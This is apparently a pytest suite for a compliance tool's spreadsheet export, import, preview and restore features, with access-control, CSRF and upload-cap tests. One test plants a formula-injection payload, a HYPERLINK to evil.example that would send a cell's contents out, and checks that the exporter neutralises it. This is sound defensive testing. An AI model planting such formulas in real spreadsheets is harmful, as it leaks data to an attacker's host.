"""The spreadsheet round trip (issue 12): export the SoA, risk register, evidence register and AI-system
inventory as the import templates, edit, upload, preview exactly what changes, confirm, restore.

The export → import half runs on the example organisations' graphs directly; the web half runs on the
Flask test client with real principals (normgraph.access), as a signed-in editor would use it.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from rdflib import Graph, Literal, URIRef
from rdflib.compare import isomorphic

from bench.bench_upload import row_cap_risks
from normgraph.access import Registry
from normgraph.backup import graph_digest
from normgraph.iri import NG, PREFIXES
from normgraph.loading import load_knowledge
from normgraph.orgdata.diff import TableDiff, plan
from normgraph.orgdata.errors import OrgDataError
from normgraph.orgdata.export import KINDS, export_rows, write_export
from normgraph.orgdata.limits import MAX_ROWS
from normgraph.orgdata.preview import PENDING_TTL, Pending, PendingUploads
from normgraph.orgdata.templates import TEMPLATES
from normgraph.server import create_app
from normgraph.server.kernel import close_app
from normgraph.server.upload_admission import running
from normgraph.store import EmbeddedStore
from tests.test_access_holes import signin_form

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ("hospital", "fintech")


@pytest.fixture(scope="module")
def graphs() -> dict[str, Graph]:
    return {slug: Graph().parse(ROOT / "data" / "examples" / f"{slug}.ttl") for slug in EXAMPLES}


def _write(tmp_path: Path, kind: str, fmt: str, rows: list[dict[str, str]]) -> Path:
    path = tmp_path / f"{kind}.{fmt}"
    path.write_bytes(write_export(rows, kind, fmt))
    return path


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", list(KINDS))
@pytest.mark.parametrize("slug", EXAMPLES)
def test_unchanged_export_imports_to_the_same_graph(graphs: dict[str, Graph], tmp_path: Path, slug: str, kind: str,
                                                   fmt: str) -> None:
    g = graphs[slug]
    rows = export_rows(g, slug, kind)
    assert rows, f"{slug} has {kind} rows"
    result = plan(g, _write(tmp_path, kind, fmt, rows), slug, kind)
    assert isomorphic(result.new, g)
    assert result.diff.empty and result.diff.unchanged == len(rows)


def test_export_is_the_import_template(graphs: dict[str, Graph], tmp_path: Path) -> None:
    path = _write(tmp_path, "soa", "xlsx", export_rows(graphs["hospital"], "hospital", "soa"))
    wb = load_workbook(path)
    assert wb.sheetnames == ["soa", "columns"]
    data = list(wb["soa"].iter_rows(values_only=True))
    assert list(data[0]) == TEMPLATES["soa"].names
    assert len(data) == 1 + 131  # both Annex A sets: 93 + 38 controls
    assert ("iso27001", "A.5.1") in {(r[0], r[1]) for r in data[1:]}
    doc = list(wb["columns"].iter_rows(values_only=True))
    assert doc[0] == ("column", "required", "meaning") and [r[0] for r in doc[1:]] == TEMPLATES["soa"].names
    # the deliberate gaps stay visible in the export: H1 (A.5.6 excluded without a justification)
    a56 = next(r for r in data[1:] if r[1] == "A.5.6")
    assert a56[2] == "no" and not a56[4]


def test_two_edited_cells_are_the_whole_change(graphs: dict[str, Graph], tmp_path: Path) -> None:
    g = graphs["hospital"]
    path = _write(tmp_path, "soa", "xlsx", export_rows(g, "hospital", "soa"))
    wb = load_workbook(path)
    ws = wb["soa"]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if (row[0].value, row[1].value) == ("iso42001", "A.10.3"):
            row[header.index("implementation_status")].value = "implemented"
            row[header.index("implementing_measure")].value = "Supplier AI clauses signed in 2026"
    wb.save(path)
    result = plan(g, path, "hospital", "soa")
    d = result.diff
    assert not d.added and not d.removed and d.unchanged == 130
    assert [(c.key, [(x.column, x.old, x.new) for x in c.cells]) for c in d.changed] == [
        ("iso42001 A.10.3", [("implementation_status", "planned", "implemented"),
                             ("implementing_measure", next(r["implementing_measure"] for r in export_rows(g, "hospital", "soa")
                                                           if r["control"] == "A.10.3"),
                              "Supplier AI clauses signed in 2026")])]
    entry = URIRef(PREFIXES["ngorg"] + "hospital/soa/iso42001-A-10-3")
    assert (entry, NG.implementingMeasure, Literal("Supplier AI clauses signed in 2026", lang="en")) in result.new
    assert d.triples_added == d.triples_removed == 2
    # its label, written in Turtle, stays
    assert set(result.new.objects(entry, URIRef("http://www.w3.org/2000/01/rdf-schema#label"))) == set(
        g.objects(entry, URIRef("http://www.w3.org/2000/01/rdf-schema#label")))


def test_removed_and_added_rows(graphs: dict[str, Graph], tmp_path: Path) -> None:
    g = graphs["fintech"]
    rows = export_rows(g, "fintech", "risks")
    gone = rows[0]
    new = dict(rows[1], id="R-900", title="Model card not published", likelihood="2", impact="3", inherent_score="")
    result = plan(g, _write(tmp_path, "risks", "csv", [*rows[1:], new]), "fintech", "risks")
    assert [r["id"] for r in result.diff.removed] == [gone["id"]]
    assert [r["id"] for r in result.diff.added] == ["R-900"]
    assert not result.diff.changed
    base = PREFIXES["ngorg"] + "fintech/"
    assert (URIRef(base + "risk/" + gone["id"]), None, None) not in result.new
    assert (URIRef(base + "treatment/" + gone["id"]), None, None) not in result.new  # its treatment went with it
    assert (URIRef(base + "risk/R-900"), NG.inherentScore, Literal(6)) in result.new


def test_csv_cells_that_look_like_formulas_are_neutralised_and_read_back(graphs: dict[str, Graph],
                                                                         tmp_path: Path) -> None:
    g = Graph()
    g += graphs["fintech"]
    risk = URIRef(PREFIXES["ngorg"] + "fintech/risk/R-001")
    title = '=HYPERLINK("http://evil.example/?"&A3,"open")'
    g.set((risk, URIRef("http://www.w3.org/2000/01/rdf-schema#label"), Literal(title, lang="en")))
    rows = export_rows(g, "fintech", "risks")
    text = write_export(rows, "risks", "csv").decode()
    cells = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
    assert cells["R-001"]["title"] == "'" + title
    xlsx = _write(tmp_path, "risks", "xlsx", rows)
    ws = load_workbook(xlsx)["risk-register"]
    cell = next(r[1] for r in ws.iter_rows(min_row=2) if r[0].value == "R-001")
    assert cell.data_type == "s" and cell.value == title  # text, never a live formula
    for fmt in ("csv", "xlsx"):
        result = plan(g, _write(tmp_path, "risks", fmt, rows), "fintech", "risks")
        assert result.diff.empty and isomorphic(result.new, g)
    edited = [dict(r, residual_score="3") if r["id"] == "R-001" else r for r in rows]
    result = plan(g, _write(tmp_path, "risks", "csv", edited), "fintech", "risks")
    assert (risk, URIRef("http://www.w3.org/2000/01/rdf-schema#label"), Literal(title, lang="en")) in result.new


def test_a_bad_cell_names_file_sheet_row_and_column(graphs: dict[str, Graph], tmp_path: Path) -> None:
    g = graphs["hospital"]
    rows = export_rows(g, "hospital", "risks")
    rows[2] = dict(rows[2], likelihood="7")
    path = _write(tmp_path, "risks", "xlsx", rows)
    with pytest.raises(OrgDataError) as e:
        plan(g, path, "hospital", "risks")
    assert (e.value.sheet, e.value.row, e.value.column) == ("risk-register", 4, "likelihood")
    assert "7 is outside 1–5" in str(e.value) and "sheet 'risk-register'" in str(e.value)
    with pytest.raises(OrgDataError, match="this is a risk-register table, not soa"):
        plan(g, path, "hospital", "soa")


def test_a_kept_row_may_hold_what_validation_reports(graphs: dict[str, Graph], tmp_path: Path) -> None:
    """F7: fintech's R-009 has likelihood 6. Unchanged, the row comes back as it was; edited, the importer
    checks it like any other row."""
    g = graphs["fintech"]
    rows = export_rows(g, "fintech", "risks")
    assert next(r for r in rows if r["id"] == "R-009")["likelihood"] == "6"
    assert plan(g, _write(tmp_path, "risks", "csv", rows), "fintech", "risks").diff.empty
    edited = [dict(r, title="Edited") if r["id"] == "R-009" else r for r in rows]
    with pytest.raises(OrgDataError, match=r"likelihood.*6 is outside 1–5"):
        plan(g, _write(tmp_path, "risks", "csv", edited), "fintech", "risks")


# -- the web round trip: download, upload, preview, confirm, restore --------------------------------

HOSPITAL_GRAPH = "https://w3id.org/normgraph/graph/org/hospital"
A103 = PREFIXES["ngorg"] + "hospital/soa/iso42001-A-10-3"
PASSWORD = "a long enough password"


@pytest.fixture
def app() -> Iterator[Flask]:
    store = EmbeddedStore()
    load_knowledge(store, examples=True)
    registry = Registry()
    for name, role in (("editor", "editor"), ("viewer", "viewer"), ("other-editor", "editor")):
        registry.add(name)
        registry.grant(name, "hospital", role)
        registry.set_password(name, PASSWORD)
    application = create_app(store, config={"workers": 1, "query_timeout": 60}, registry=registry)
    application.testing = True
    yield application
    close_app(application)


def signed_in(app: Flask, name: str) -> tuple[FlaskClient, str]:
    """A browser-like client signed in as `name`, and its session's CSRF token."""
    c = app.test_client()
    assert c.post("/access/signin", data=signin_form(c, name=name, password=PASSWORD)).status_code == 303
    return c, c.get("/access/me").get_json()["csrf_token"]


def with_token(app: Flask, name: str) -> FlaskClient:
    registry: Registry = app.extensions["normgraph"].registry
    c = app.test_client()
    c.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {registry.new_token(name)}"
    return c


def edit_soa(data: bytes, edits: dict[tuple[str, str], dict[str, str]]) -> bytes:
    wb = load_workbook(io.BytesIO(data))
    ws = wb["soa"]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        for column, value in edits.get((row[0].value, row[1].value), {}).items():
            row[header.index(column)].value = value
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


TWO_CELLS = {("iso42001", "A.10.3"): {"implementation_status": "implemented"},
             ("iso27001", "A.5.6"): {"exclusion_justification": "Authorities are contacted through the legal office only"}}


def upload(c: FlaskClient, csrf: str | None, data: bytes, name: str = "soa.xlsx", **form: str):  # type: ignore[no-untyped-def]
    fields: dict[str, object] = {"file": (io.BytesIO(data), name), **form}
    if csrf:
        fields["csrf_token"] = csrf
    return c.post("/org/hospital/upload", data=fields, content_type="multipart/form-data")


def status_of(c: FlaskClient, entry: str) -> str:
    q = f"SELECT ?s WHERE {{ GRAPH <{HOSPITAL_GRAPH}> {{ <{entry}> <{NG}implementationStatus> ?s }} }}"
    rows = c.get("/sparql", query_string={"query": q}, headers={"Accept": "application/sparql-results+json"}).get_json()
    return str(rows["results"]["bindings"][0]["s"]["value"]).rsplit("/", 1)[-1]


def test_editor_round_trip_preview_confirm_restore(app: Flask) -> None:
    c, csrf = signed_in(app, "editor")
    page = c.get("/org/hospital/spreadsheets").get_data(as_text=True)
    assert 'data-export="soa.xlsx"' in page and 'name="file"' in page and "csrf_token" in page
    xlsx = c.get("/org/hospital/export/soa.xlsx")
    assert xlsx.status_code == 200 and xlsx.headers["Content-Disposition"].endswith('hospital-soa.xlsx"')
    r = upload(c, csrf, edit_soa(xlsx.data, TWO_CELLS))
    assert r.status_code == 303 and "/org/hospital/upload/" in r.headers["Location"]
    preview_url = r.headers["Location"]
    body = c.get(preview_url).get_data(as_text=True)
    assert 'data-count="changed">2<' in body and 'data-count="added">0<' in body and 'data-count="removed">0<' in body
    assert 'data-count="unchanged">129<' in body
    changed = c.get(preview_url, query_string={"format": "json"}).get_json()
    assert [(x["key"], [(y["column"], y["old"], y["new"]) for y in x["cells"]]) for x in changed["diff"]["changed"]] == [
        ("iso27001 A.5.6", [("exclusion_justification", "", TWO_CELLS[("iso27001", "A.5.6")]["exclusion_justification"])]),
        ("iso42001 A.10.3", [("implementation_status", "planned", "implemented")])]
    # the validation of the new state: H1 (A.5.6 excluded without a justification) is resolved
    resolved = changed["validation"]["removed"]
    assert any(f["severity"] == "Violation" and f["focus"].endswith("soa/iso27001-A-5-6") for f in resolved)
    # and A.10.3 "implemented" with no evidence supporting it is a new one (ISO/IEC 27001 7.5 / 9.1)
    added = changed["validation"]["added"]
    assert [f["focus"].rsplit("/", 1)[-1] for f in added if f["severity"] == "Violation"] == ["iso42001-A-10-3"]
    assert 'id="findings-added"' in body and 'id="findings-removed"' in body
    assert status_of(c, A103) == "planned"  # nothing changed before the confirmation

    token = preview_url.rsplit("/", 1)[-1]
    done = c.post(f"/org/hospital/upload/{token}/confirm", data={"csrf_token": csrf})
    assert done.status_code == 303 and done.headers["Location"].endswith("/org/hospital/spreadsheets?done=applied")
    assert status_of(c, A103) == "implemented"
    assert "Authorities are contacted through the legal office only" in _all_soa_pages(c)
    assert c.post(f"/org/hospital/upload/{token}/confirm", data={"csrf_token": csrf}).status_code == 404  # once only

    page = c.get("/org/hospital/spreadsheets").get_data(as_text=True)
    assert "Restore previous" in page
    assert c.post("/org/hospital/restore", data={"csrf_token": csrf}).status_code == 303
    assert status_of(c, A103) == "planned"
    assert "Authorities are contacted" not in _all_soa_pages(c)


def _all_soa_pages(c: FlaskClient) -> str:
    """The SoA as the site shows it: the overview and every section it links to."""
    first = c.get("/org/hospital/soa").get_data(as_text=True)
    sections = sorted(set(re.findall(r'href="(/org/hospital/soa\?[^"]*section=[^"]+)"', first)))
    return first + "".join(c.get(html.unescape(s)).get_data(as_text=True) for s in sections)


def test_viewer_may_download_but_not_upload(app: Flask) -> None:
    v, csrf = signed_in(app, "viewer")
    page = v.get("/org/hospital/spreadsheets").get_data(as_text=True)
    assert 'data-export="soa.xlsx"' in page and 'name="file"' not in page and "Restore previous" not in page
    data = v.get("/org/hospital/export/soa.xlsx").data
    assert upload(v, csrf, edit_soa(data, TWO_CELLS)).status_code == 403
    assert v.post("/org/hospital/restore", data={"csrf_token": csrf}).status_code == 403
    t = with_token(app, "viewer")
    assert upload(t, None, data).status_code == 403


def test_anonymous_cannot_read_or_upload(app: Flask) -> None:
    anon = app.test_client()
    assert anon.get("/org/hospital/spreadsheets").status_code == 404
    assert anon.get("/org/hospital/export/soa.xlsx").status_code == 404
    assert anon.get("/org/hospital/export/soa.csv").status_code == 404
    data = with_token(app, "editor").get("/org/hospital/export/soa.xlsx").data
    assert upload(anon, None, data).status_code == 401
    assert anon.post("/org/hospital/restore").status_code == 401


def test_a_cookie_without_the_csrf_field_cannot_write(app: Flask) -> None:
    c, _csrf = signed_in(app, "editor")
    data = c.get("/org/hospital/export/soa.xlsx").data
    assert upload(c, None, edit_soa(data, TWO_CELLS)).status_code == 401  # the cookie is ignored: anonymous


def test_an_abandoned_preview_changes_nothing_and_expires(app: Flask) -> None:
    c = with_token(app, "editor")
    before = c.get("/store", query_string={"graph": HOSPITAL_GRAPH}, headers={"Accept": "application/n-triples"}).data
    r = c.post("/org/hospital/upload?format=json", data={"file": (io.BytesIO(edit_soa(
        c.get("/org/hospital/export/soa.xlsx").data, TWO_CELLS)), "soa.xlsx")}, content_type="multipart/form-data")
    assert r.status_code == 200 and len(r.get_json()["diff"]["changed"]) == 2
    token = r.get_json()["token"]
    after = c.get("/store", query_string={"graph": HOSPITAL_GRAPH}, headers={"Accept": "application/n-triples"}).data
    assert graph_digest(before) == graph_digest(after)
    assert status_of(c, A103) == "planned"
    # another editor cannot see or confirm it
    other = with_token(app, "other-editor")
    assert other.get(f"/org/hospital/upload/{token}").status_code == 404
    assert other.post(f"/org/hospital/upload/{token}/confirm").status_code == 404
    pending: PendingUploads = app.extensions["normgraph.org_import"].pending
    pending.clock = lambda: time.monotonic() + PENDING_TTL + 1
    assert len(pending) == 0
    assert c.post(f"/org/hospital/upload/{token}/confirm").status_code == 404
    assert status_of(c, A103) == "planned"


def test_confirming_after_someone_else_changed_the_data_is_a_409(app: Flask) -> None:
    c = with_token(app, "editor")
    data = c.get("/org/hospital/export/soa.xlsx").data
    first = c.post("/org/hospital/upload?format=json", data={"file": (io.BytesIO(edit_soa(data, TWO_CELLS)), "a.xlsx")},
                   content_type="multipart/form-data").get_json()["token"]
    edit = {("iso27001", "A.5.1"): {"owner": "dpo"}}
    second = c.post("/org/hospital/upload?format=json", data={"file": (io.BytesIO(edit_soa(data, edit)), "b.xlsx")},
                    content_type="multipart/form-data").get_json()["token"]
    assert c.post(f"/org/hospital/upload/{second}/confirm?format=json").status_code == 200
    r = c.post(f"/org/hospital/upload/{first}/confirm?format=json")
    assert r.status_code == 409 and "changed since this preview" in r.get_json()["error"]
    assert status_of(c, A103) == "planned"


def test_a_bad_file_names_file_sheet_row_and_column(app: Flask) -> None:
    c, csrf = signed_in(app, "editor")
    data = edit_soa(c.get("/org/hospital/export/soa.xlsx").data, {("iso27001", "A.5.3"): {"applicable": "perhaps"}})
    r = upload(c, csrf, data, name="edited soa.xlsx")
    body = r.get_data(as_text=True)
    assert r.status_code == 400
    assert 'data-field="file">edited soa.xlsx<' in body and 'data-field="sheet">soa<' in body
    assert 'data-field="row">4<' in body and 'data-field="column">applicable<' in body and "perhaps" in body
    j = with_token(app, "editor").post("/org/hospital/upload?format=json", data={"file": (io.BytesIO(data), "s.xlsx")},
                                       content_type="multipart/form-data")
    assert j.status_code == 400
    assert {k: j.get_json()[k] for k in ("file", "sheet", "row", "column")} == {
        "file": "s.xlsx", "sheet": "soa", "row": 4, "column": "applicable"}
    wrong = upload(c, csrf, data, kind="risks")
    assert wrong.status_code == 400 and "this is a soa table, not risk-register" in wrong.get_data(as_text=True)
    assert upload(c, csrf, b"not a workbook", name="x.xlsx").status_code == 400
    assert upload(c, csrf, b"x", name="x.txt").status_code == 400
    assert status_of(c, A103) == "planned"


def test_pending_previews_are_bounded() -> None:
    now = [0.0]
    box = PendingUploads(max_entries=3, max_bytes=10_000, ttl=60, per_principal=2, clock=lambda: now[0])

    def pending(who: str, size: int = 100) -> Pending:
        return Pending("hospital", "soa", who, "f.xlsx", "x", b"x" * size, TableDiff("soa"), None)

    a1, a2, a3 = pending("a"), pending("a"), pending("a")
    for p in (a1, a2, a3):
        assert box.add(p)
    assert len(box) == 2 and box.get(a1.token, "hospital", "a") is None  # two per principal: the oldest went
    b1, c1 = pending("b"), pending("c")
    box.add(b1)
    box.add(c1)
    assert len(box) == 3 and box.get(a2.token, "hospital", "a") is None  # three in all
    assert not box.add(pending("d", 20_000))  # one over the byte bound alone is refused
    box.add(pending("d", 9_000))
    assert box.bytes <= 10_000
    now[0] = 61
    assert len(box) == 0


def test_cli_export_preview_apply_restore(tmp_path: Path) -> None:
    """As users run it: one process per command, on a store on disk."""
    cli = [sys.executable, "-m", "normgraph", "--store", str(tmp_path / "store")]

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([*cli, *args], capture_output=True, text=True, timeout=300)

    out = tmp_path / "soa.xlsx"
    assert run("org", "export", "--org", "hospital", "--kind", "soa", "--format", "xlsx", "-o", str(out)).returncode == 0
    out.write_bytes(edit_soa(out.read_bytes(), TWO_CELLS))
    r = run("org", "preview", str(out), "--org", "hospital", "--format", "json")
    assert r.returncode == 0 and [c["key"] for c in json.loads(r.stdout)["changed"]] == ["iso27001 A.5.6", "iso42001 A.10.3"]
    assert run("org", "apply", str(out), "--org", "hospital").returncode == 0
    assert json.loads(run("org", "preview", str(out), "--org", "hospital", "--format", "json").stdout)["changed"] == []
    r = run("org", "restore", "--org", "hospital")
    assert r.returncode == 0 and "restored hospital" in r.stdout
    assert len(json.loads(run("org", "preview", str(out), "--org", "hospital", "--format", "json").stdout)["changed"]) == 2
    bad = tmp_path / "bad.csv"
    bad.write_text("standard,control,applicable,implementation_status\niso27001,A.5.1,perhaps,implemented\n")
    r = run("org", "apply", str(bad), "--org", "hospital")
    assert r.returncode == 2 and "row 2, column 'applicable'" in " ".join(r.stderr.split())


def test_an_http_import_can_be_restored_too(app: Flask) -> None:
    c = with_token(app, "editor")
    risks = c.get("/org/hospital/export/risks.csv").data
    r = c.post("/org/hospital/import?kind=risks&replace=1&format=csv", data=risks, content_type="text/csv")
    assert r.status_code == 200
    assert c.get("/org/hospital/export/soa.csv").data.count(b"\n") == 1  # replaced by the risk register alone
    r = c.post("/org/hospital/restore?format=json")
    assert r.status_code == 200 and "imported" in r.get_json()["note"]
    assert c.get("/org/hospital/export/soa.csv").data.count(b"\n") == 132
    assert status_of(c, A103) == "planned"


def test_a_new_ai_system_row_is_operated_by_the_organisation(graphs: dict[str, Graph], tmp_path: Path) -> None:
    g = graphs["fintech"]
    rows = export_rows(g, "fintech", "ai-systems")
    new = {name: "" for name in TEMPLATES["ai-systems"].names}
    new.update(id="kyc-ocr", name="KYC document reader", role="deployer", risk_category="minimal-risk",
               intended_purpose="Reads identity documents for customer onboarding", art_50_triggers="none")
    result = plan(g, _write(tmp_path, "ai-systems", "xlsx", [*rows, new]), "fintech", "ai-systems")
    assert [r["id"] for r in result.diff.added] == ["kyc-ocr"] and not result.diff.changed and not result.diff.removed
    system = URIRef(PREFIXES["ngorg"] + "fintech/ai-system/kyc-ocr")
    (org,) = set(g.subjects(URIRef("http://www.w3.org/1999/02/22-rdf-syntax-ns#type"), NG.Organisation))
    assert (system, NG.operatedBy, org) in result.new


def test_the_preview_lists_added_and_removed_lines_with_their_cells(app: Flask) -> None:
    c, csrf = signed_in(app, "editor")
    rows = list(csv.DictReader(io.StringIO(c.get("/org/hospital/export/risks.csv").get_data(as_text=True))))
    gone = rows.pop(0)
    rows.append(dict(rows[0], id="R-900", title="Spreadsheet macro alters the register", inherent_score=""))
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=TEMPLATES["risk-register"].names, lineterminator="\n")
    w.writeheader()
    w.writerows(rows)
    r = upload(c, csrf, buf.getvalue().encode(), name="risks.csv")
    assert r.status_code == 303
    body = c.get(r.headers["Location"]).get_data(as_text=True)
    assert 'data-count="added">1<' in body and 'data-count="removed">1<' in body and 'data-count="changed">0<' in body
    added = body[body.index('id="added"'):body.index('id="h-validation"')]
    assert 'data-key="R-900"' in added and "title: Spreadsheet macro alters the register" in added
    removed = body[body.index('id="removed"'):]
    assert f'data-key="{gone["id"]}"' in removed and f"title: {html.escape(gone['title'])}" in removed
    token = r.headers["Location"].rsplit("/", 1)[-1]
    assert c.post(f"/org/hospital/upload/{token}/discard", data={"csrf_token": csrf}).status_code == 303
    assert c.get(r.headers["Location"]).status_code == 404
    assert b"R-900" not in c.get("/org/hospital/export/risks.csv").data


# -- admission and caps: an upload is read in a capped child process, a few at a time (issue 11) -------------

def _app_with(**config: object) -> Flask:
    store = EmbeddedStore()
    load_knowledge(store, examples=True)
    registry = Registry()
    for name in ("editor", "other-editor"):
        registry.add(name)
        registry.grant(name, "hospital", "editor")
    # people of one organisation share its slots (Principal.fairness_key); the other client also works
    # for fintech, so it counts as itself
    registry.grant("other-editor", "fintech", "viewer")
    application = create_app(store, config={"workers": 1, "query_timeout": 60, **config}, registry=registry)
    application.testing = True
    return application


def _hospital_graph(c: FlaskClient) -> bytes:
    return c.get("/store", query_string={"graph": HOSPITAL_GRAPH}, headers={"Accept": "application/n-triples"}).data


@pytest.mark.slow
def test_an_upload_over_the_memory_or_time_cap_is_refused_and_writes_nothing() -> None:
    """The reading of an upload may use `upload_memory` bytes and `upload_timeout` seconds, then it is
    stopped: the server answers (413 memory, 503 time, naming the file) and keeps going."""
    body = row_cap_risks()
    for config, status, words in (({"upload_memory": 64 * 1024**2}, 413, "an upload may use"),
                                  ({"upload_timeout": 1}, 503, "1 s")):
        application = _app_with(**config)
        try:
            c = with_token(application, "editor")
            before = _hospital_graph(c)
            r = c.post("/org/hospital/upload?format=json", data={"file": (io.BytesIO(body), "big.csv")},
                       content_type="multipart/form-data")
            assert r.status_code == status, r.get_data(as_text=True)
            assert r.get_json()["error"].startswith("big.csv: ") and words in r.get_json()["error"]
            assert ("Retry-After" in r.headers) == (status == 503)
            imported = c.post("/org/hospital/import?kind=risks&format=csv&filename=big.csv", data=body,
                              content_type="text/csv")
            assert imported.status_code == status and words in imported.get_json()["error"]
            assert graph_digest(_hospital_graph(c)) == graph_digest(before)
            assert c.get("/").status_code == 200
            kept = application.extensions.get("normgraph.org_import")
            assert kept is None or len(kept.pending) == 0  # no preview was kept
        finally:
            close_app(application)


@pytest.mark.slow
def test_uploads_are_read_a_few_at_a_time_and_cheap_pages_answer_meanwhile() -> None:
    """While one client's upload at the row cap is being read: that client's second upload gets a fast 503
    with Retry-After (one client holds at most half of the upload slots), another client's upload is read,
    and the home page and a cached named query answer — all before the first upload is done."""
    application = _app_with(upload_workers=2)
    try:
        a, b = with_token(application, "editor"), with_token(application, "other-editor")
        small = a.get("/org/hospital/export/risks.csv").data
        assert a.get("/api/queries/graph-provenance").status_code == 200  # now cached
        big = row_cap_risks()
        answers: list[Any] = []
        first = threading.Thread(target=lambda: answers.append(a.post(
            "/org/hospital/upload?format=json", data={"file": (io.BytesIO(big), "big.csv")},
            content_type="multipart/form-data")))
        first.start()
        while running(application) == 0 and first.is_alive():
            time.sleep(0.05)
        again = a.post("/org/hospital/upload?format=json", data={"file": (io.BytesIO(small), "risks.csv")},
                       content_type="multipart/form-data")
        assert again.status_code == 503 and again.headers["Retry-After"]
        assert "not read" in again.get_json()["error"]
        assert a.get("/").status_code == 200
        assert a.get("/api/queries/graph-provenance").status_code == 200
        other = b.post("/org/hospital/upload?format=json", data={"file": (io.BytesIO(small), "risks.csv")},
                       content_type="multipart/form-data")
        assert other.status_code == 200 and other.get_json()["diff"]["changed"] == []
        assert first.is_alive() and not answers  # the big upload is still being read
        first.join()
        assert answers[0].status_code == 200, answers[0].get_data(as_text=True)[:300]
        assert len(answers[0].get_json()["diff"]["added"]) == MAX_ROWS - 1 - len(small.splitlines()[1:])
        assert running(application) == 0
    finally:
        close_app(application)


def test_a_confirmation_that_reaches_another_server_process_is_told_so(app: Flask) -> None:
    """Previews wait in the server process that made them; with several processes (gunicorn workers) a
    confirmation may reach another one, which says so rather than "expired"."""
    c = with_token(app, "editor")
    r = c.post("/org/hospital/upload?format=json", data={"file": (io.BytesIO(c.get(
        "/org/hospital/export/risks.csv").data), "risks.csv")}, content_type="multipart/form-data")
    token = r.get_json()["token"]
    tag, _rest = token.split("-", 1)
    elsewhere = ("0" if tag[0] != "0" else "1") + tag[1:] + "-" + _rest
    for answer in (c.post(f"/org/hospital/upload/{elsewhere}/confirm"), c.get(f"/org/hospital/upload/{elsewhere}")):
        assert answer.status_code == 404 and "made by another" in answer.get_data(as_text=True)
    gone = c.post("/org/hospital/upload/no-such-preview/confirm")
    assert gone.status_code == 404 and "another" not in gone.get_data(as_text=True)
    assert c.post(f"/org/hospital/upload/{token}/confirm?format=json").status_code == 200
